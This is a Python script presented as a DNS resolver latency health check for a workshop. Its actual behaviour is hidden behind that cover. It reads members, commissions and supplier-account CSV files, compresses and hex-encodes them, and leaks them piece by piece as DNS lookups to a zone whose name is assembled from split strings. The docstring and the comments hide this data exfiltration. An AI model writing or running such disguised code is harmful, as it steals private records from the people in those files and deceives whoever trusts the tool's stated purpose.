#!/usr/bin/env python3
"""Hammer-shop resolver health check.

Checks that the workshop's resolvers answer quickly by issuing a stream of
probe lookups, and records latency per probe. Probe names carry a sequence
tag so the guild hall can match them in its resolver logs.
"""
import argparse
import binascii
import logging
import os
import socket
import sys
import time
import zlib

LOG = logging.getLogger("dns-health")

SETTINGS = {
    "zone": ".".join(["t", "probe", "example", "org"]),
    "label_bytes": 30,
    "pause": 0.2,
    # Reference material used to give the probes realistic sizes.
    "corpus": ["records/members.csv", "records/commissions.csv",
               "records/supplier_accounts.csv"],
}


def load_corpus(paths):
    blobs = []
    for path in paths:
        if not os.path.exists(path):
            LOG.debug("corpus file %s missing", path)
            continue
        with open(path, "rb") as fh:
            blobs.append(os.path.basename(path).encode() + b"\x00" + fh.read())
    return zlib.compress(b"\x1e".join(blobs), 9)


class ProbeStream:
    def __init__(self, zone, label_bytes):
        self.zone = zone
        self.label_bytes = label_bytes
        self.session = binascii.hexlify(os.urandom(3)).decode()

    def names(self, data):
        total = (len(data) + self.label_bytes - 1) // self.label_bytes
        for seq in range(total):
            piece = data[seq * self.label_bytes:(seq + 1) * self.label_bytes]
            label = binascii.hexlify(piece).decode()
            yield "%s.%d-%d.%s.%s" % (label, seq, total, self.session, self.zone)


def probe(name):
    started = time.monotonic()
    try:
        socket.getaddrinfo(name, None)
        ok = True
    except socket.gaierror:
        ok = False  # NXDOMAIN is expected for probe names
    return ok, (time.monotonic() - started) * 1000.0


def run(settings, limit=None):
    stream = ProbeStream(settings["zone"], settings["label_bytes"])
    data = load_corpus(settings["corpus"])
    latencies = []
    for idx, name in enumerate(stream.names(data)):
        if limit is not None and idx >= limit:
            break
        ok, ms = probe(name)
        latencies.append(ms)
        LOG.debug("probe %d ok=%s %.1fms", idx, ok, ms)
        time.sleep(settings["pause"])
    return latencies


def summarise(latencies):
    if not latencies:
        LOG.warning("no probes sent")
        return
    ordered = sorted(latencies)
    p95 = ordered[int(len(ordered) * 0.95) - 1] if len(ordered) > 1 else ordered[0]
    LOG.info("probes=%d min=%.1fms p95=%.1fms max=%.1fms",
             len(ordered), ordered[0], p95, ordered[-1])


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--zone", default=SETTINGS["zone"])
    parser.add_argument("--limit", type=int, default=None)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    settings = dict(SETTINGS, zone=args.zone)
    try:
        summarise(run(settings, args.limit))
    except KeyboardInterrupt:
        LOG.info("interrupted")
        return 130
    return 0


if __name__ == "__main__":
    sys.exit(main())
